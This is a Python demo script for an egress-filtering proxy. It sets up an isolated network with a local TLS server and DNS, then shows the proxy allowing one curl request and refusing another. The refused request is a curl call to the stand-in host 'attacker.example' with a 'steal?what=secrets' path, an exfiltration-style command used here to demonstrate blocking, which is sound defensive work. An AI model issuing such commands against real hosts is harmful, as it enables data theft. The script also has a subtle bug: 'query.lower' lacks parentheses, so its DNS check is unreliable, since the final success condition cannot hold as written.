# SPDX-License-Identifier: Apache-2.0
"""Shows the main job: called by tools/demo inside an empty network namespace, so every address below is made up here."""
import http.server
import json
import os
import pathlib
import shutil
import signal
import ssl
import subprocess
import sys
import tempfile
import threading

ROOT = pathlib.Path(__file__).resolve().parent.parent
sys.path.insert(0, str(ROOT / "tests" / "e2e"))
from lab.dns import Dns  # noqa: E402
from lab.origin import make_certificate  # noqa: E402

HOST, ADDRESS = "mcp.internal.example.com", "10.20.3.7"
STEPS = 6


def say(number, text):
    print(f"\n== {number}/{STEPS} {text}", flush=True)


def show(command, **options):
    print("$ " + " ".join(str(part) for part in command), flush=True)
    return subprocess.run(command, check=False, **options).returncode


def serve(context):
    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            body = b'{"invoices": 3}\n'
            self.send_response(200)
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *_):
            pass

    server = http.server.ThreadingHTTPServer((ADDRESS, 443), Handler)
    server.socket = context.wrap_socket(server.socket, server_side=True)
    threading.Thread(target=server.serve_forever, daemon=True).start()


def start(binary, folder, dns):
    reader, writer = os.pipe()
    command = [binary, "run", "--policy", folder / "invoice-env.yaml", "--listen", "127.0.0.1:3128", "--audit-dir",
               folder / "state" / "audit", "--admin", f"unix:{folder}/state/run/admin.sock", "--dns", dns.endpoint,
               "--workers", "1", "--ready-fd", str(writer)]
    print("$ " + " ".join(str(part) for part in command), flush=True)
    process = subprocess.Popen(command, pass_fds=[writer])
    os.close(writer)
    with os.fdopen(reader) as ready:
        line = ready.readline()
    if not line:
        sys.exit("the proxy did not start")
    return process, json.loads(line)


def main():
    binary = str(pathlib.Path(sys.argv[1]).resolve())
    folder = pathlib.Path(tempfile.mkdtemp(prefix="sallyport-demo-"))
    folder.chmod(0o755)
    shutil.copy2(ROOT / "policies" / "invoice-env.yaml", folder)
    (folder / "invoice-env.yaml").chmod(0o644)
    shutil.copy2(binary, folder / "sallyport")
    binary = str(folder / "sallyport")

    say(1, f"a network of our own: {HOST} is {ADDRESS}, and a name server that knows it")
    for line in ("link set lo up", f"addr add {ADDRESS}/32 dev lo"):
        subprocess.run(["ip", *line.split()], check=True)
    ca, context = make_certificate(folder / "tls", [HOST])
    serve(context)
    dns = Dns()
    dns.set(HOST, ADDRESS)

    say(2, "what the policy says, before anything runs")
    show([binary, "explain", "--policy", folder / "invoice-env.yaml", f"{HOST}:443"])
    show([binary, "explain", "--policy", folder / "invoice-env.yaml", "attacker.example:443"])

    say(3, "the proxy")
    process, ready = start(binary, folder, dns)
    try:
        say(4, "an allowed request and a denied one")
        curl = ["curl", "-sS", "--proxy", "http://127.0.0.1:3128", "--cacert", ca]
        allowed = show([*curl, f"https://{HOST}/data"])
        denied = show([*curl, "-D", "-", "https://attacker.example/steal?what=secrets"])
        asked = sorted({query.lower for query in dns.queries})
        print(f"(the name server was asked for: {', '.join(asked)})")
    finally:
        process.send_signal(signal.SIGTERM)
        status = process.wait(60)

    say(5, "what was recorded")
    show([binary, "audit", "tail", ready["audit_dir"]])

    say(6, "is the record whole and unchanged?")
    verified = show([binary, "audit", "verify", ready["audit_dir"], "--key", ready["audit_key"]])
    dns.close()
    shutil.rmtree(folder)
    good = allowed == 0 and denied == 56 and status == 0 and verified == 0 and asked == [HOST]
    print("\nAllowed passed, denied was refused before any DNS query, and both are proven." if good else
          f"\nSomething is wrong: allowed {allowed}, denied {denied}, proxy {status}, verify {verified}, DNS {asked}")
    sys.exit(0 if good else 1)


if __name__ == "__main__":
    main()
